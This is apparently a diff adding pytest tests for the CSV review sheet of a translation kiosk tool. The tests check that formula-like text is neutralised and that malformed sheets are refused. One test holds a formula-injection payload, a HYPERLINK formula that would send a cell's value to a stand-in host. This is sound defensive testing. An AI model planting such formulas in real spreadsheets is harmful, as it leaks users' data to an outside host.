@@ -110,3 +110,77 @@ def test_the_dhis2_mapping_cannot_put_a_formula_or_a_newline_in_the_export(tmp_p
         load_mapping(tmp_path)
     (tmp_path / "dhis2-mapping.json").write_text(json.dumps(example), encoding="utf-8")
     assert load_mapping(tmp_path)["org_unit"] == "PE-PUNO-CS-ILAVE"
+
+
+# ---------------------------------------------------------------- the community review sheet
+
+def _sheet(paths, tmp_path):  # type: ignore[no-untyped-def]
+    from kiosk.core.review import write_sheet
+
+    out = tmp_path / "qu.csv"
+    write_sheet(paths, "qu", out)
+    return out
+
+
+def _apply(paths, sheet) -> tuple[int, list[str]]:  # type: ignore[no-untyped-def]
+    import io
+
+    from kiosk.core.review import apply_sheet
+
+    out = io.StringIO()
+    return apply_sheet(paths, sheet, out, today=TODAY), out.getvalue().splitlines()
+
+
+def _rows(sheet) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
+    import csv
+
+    with sheet.open(encoding="utf-8-sig", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+def _write(sheet, rows: list[dict[str, str]], header: list[str] | None = None) -> None:  # type: ignore[no-untyped-def]
+    import csv
+
+    with sheet.open("w", encoding="utf-8-sig", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(header or list(rows[0]))
+        w.writerows([list(r.values()) for r in rows])
+
+
+def test_a_text_that_looks_like_a_formula_stays_text_in_the_sheet_and_still_applies(paths, tmp_path) -> None:
+    module = paths.content / "modules" / "01-couple.yaml"
+    formula = '=HYPERLINK("http://x.example/?"&A1;"Maqayqa")'
+    module.write_text(module.read_text(encoding="utf-8").replace('qu: "Maqayqa k\'irim."',
+                                                                 f"qu: '{formula}'"), encoding="utf-8")
+    sheet = _sheet(paths, tmp_path)
+    rows = _rows(sheet)
+    hit = next(r for r in rows if r["key"] == "couple.hit")
+    assert hit["qu"] == "'" + formula  # a spreadsheet shows it, never runs it
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
+    hit.update(verdict="ok", role="intérprete", date="2026-11-20")
+    _write(sheet, rows)
+    code, said = _apply(paths, sheet)
+    assert code == 0 and "1 texts reviewed" in said[-1], said
+
+
+def test_a_sheet_with_a_huge_cell_a_doubled_column_or_a_text_twice_is_refused_in_one_line_each(
+        paths, tmp_path) -> None:
+    sheet = _sheet(paths, tmp_path)
+    rows = _rows(sheet)
+    header = list(rows[0])
+    big = [dict(rows[0], es="x" * 200_000)]
+    _write(sheet, big)
+    code, said = _apply(paths, sheet)
+    assert code == 1 and said[0].startswith(f"{sheet}:2: file: not a CSV sheet"), said
+    _write(sheet, rows, [h if h != "status" else "key" for h in header])
+    code, said = _apply(paths, sheet)
+    assert code == 1 and said[0] == f"{sheet}:1: key: column appears twice: make a new sheet with kiosk " \
+                                    "content review-sheet", said
+    first = dict(rows[0], verdict="ok", role="intérprete", date="2026-11-20")
+    again = dict(rows[0], verdict="cambiar", role="traductora", date="2026-11-21")
+    _write(sheet, [first, again])
+    code, said = _apply(paths, sheet)
+    assert code == 1, said
+    assert said[0].startswith(f"{sheet}:3: key: '{first['key']}' is filled in on line 2 already"), said
+    assert not (paths.content / "reviews" / "qu.yaml").exists()  # nothing applied
